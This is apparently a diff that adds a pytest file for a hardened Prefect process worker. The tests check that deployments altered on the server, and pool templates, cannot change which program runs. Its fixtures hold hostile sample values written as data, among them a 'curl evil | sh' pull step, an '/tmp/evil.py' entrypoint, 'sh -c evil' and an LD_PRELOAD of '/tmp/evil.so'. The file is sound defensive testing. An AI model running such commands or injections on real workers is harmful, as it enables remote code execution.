@@ -1,0 +1,80 @@
+"""What stands on the Prefect server does not decide which program a worker runs."""
+
+import sys
+from types import SimpleNamespace
+from typing import Any
+from uuid import uuid4
+
+import pytest
+from prefect.client.schemas.objects import FlowRun
+from prefect.flows import load_flow_from_entrypoint
+from prefect.utilities.dispatch import lookup_type
+from prefect.workers.base import BaseWorker
+
+from blocks.bound_worker import ENGINE, BoundConfiguration, BoundWorker, entrypoints, problem
+
+KNOWN = entrypoints()
+AS_DEPLOYED: dict[str, Any] = {
+    "name": "production",
+    "entrypoint": "flows.release.release",
+    "pull_steps": [],
+    "job_variables": {},
+    "storage_document_id": None,
+}
+
+
+def deployment(**changed: Any) -> Any:
+    return SimpleNamespace(**AS_DEPLOYED | changed)
+
+
+def test_every_deployment_is_known_by_the_name_of_its_flow() -> None:
+    """The name is made of the entrypoint: each flow is really called so."""
+    assert len(KNOWN) > 15
+    for named, entrypoint in KNOWN.items():
+        assert load_flow_from_entrypoint(entrypoint).name == named.split("/")[0]
+
+
+def test_a_deployment_as_we_deployed_it_is_started() -> None:
+    """Empty pull steps are ours: `pull: []` in prefect.yaml."""
+    assert problem("release/production", deployment(), KNOWN) == ""
+    assert problem("release/production", deployment(pull_steps=None), KNOWN) == ""
+
+
+CHANGED: dict[str, dict[str, Any]] = {
+    "pull steps": {"pull_steps": [{"prefect.deployments.steps.run_shell_script": {"script": "curl evil | sh"}}]},
+    "another entrypoint": {"entrypoint": "os.system"},
+    "a file as entrypoint": {"entrypoint": "/tmp/evil.py:release"},
+    "job variables": {"job_variables": {"env": {"PYTHONPATH": "/tmp"}}},
+    "a storage block": {"storage_document_id": uuid4()},
+}
+
+
+@pytest.mark.parametrize("changed", CHANGED.values(), ids=CHANGED)
+def test_a_deployment_that_was_changed_is_refused_in_one_sentence(changed: dict[str, Any]) -> None:
+    """It says what is changed, and how it is put right."""
+    why = problem("release/production", deployment(**changed), KNOWN)
+    assert why.startswith("release/production is not as prefect.yaml has it (")
+    assert why.endswith("deploy again: python -m blocks deploy.")
+
+
+@pytest.mark.parametrize("named", ["release/elsewhere", "evil/production", "release/(none)", ""])
+def test_a_deployment_that_is_none_of_ours_is_refused(named: str) -> None:
+    """Made by another person, deleted, or without a deployment."""
+    assert "is in no prefect.yaml" in problem(named, deployment(), KNOWN)
+    assert "is in no prefect.yaml" in problem("release/production", None, KNOWN)
+
+
+def test_the_template_of_the_pool_decides_nothing() -> None:
+    """Neither the command nor the environment, the folder, or what it prints: also where a person changed the pool."""
+    evil: dict[str, Any] = {"command": "sh -c evil", "env": {"LD_PRELOAD": "/tmp/evil.so"}, "stream_output": True}
+    configuration = BoundConfiguration(**evil, working_dir="/tmp", labels={})
+    configuration.prepare_for_flow_run(FlowRun(id=uuid4(), flow_id=uuid4(), name="any"))
+    assert (configuration.command, configuration.working_dir, configuration.stream_output) == (ENGINE, None, False)
+    assert sys.executable in ENGINE
+    assert "LD_PRELOAD" not in configuration.env
+    assert configuration._command_configured
+
+
+def test_it_is_the_worker_of_a_process_pool() -> None:
+    """`prefect worker start --type process` in this process starts it."""
+    assert lookup_type(BaseWorker, "process") is BoundWorker
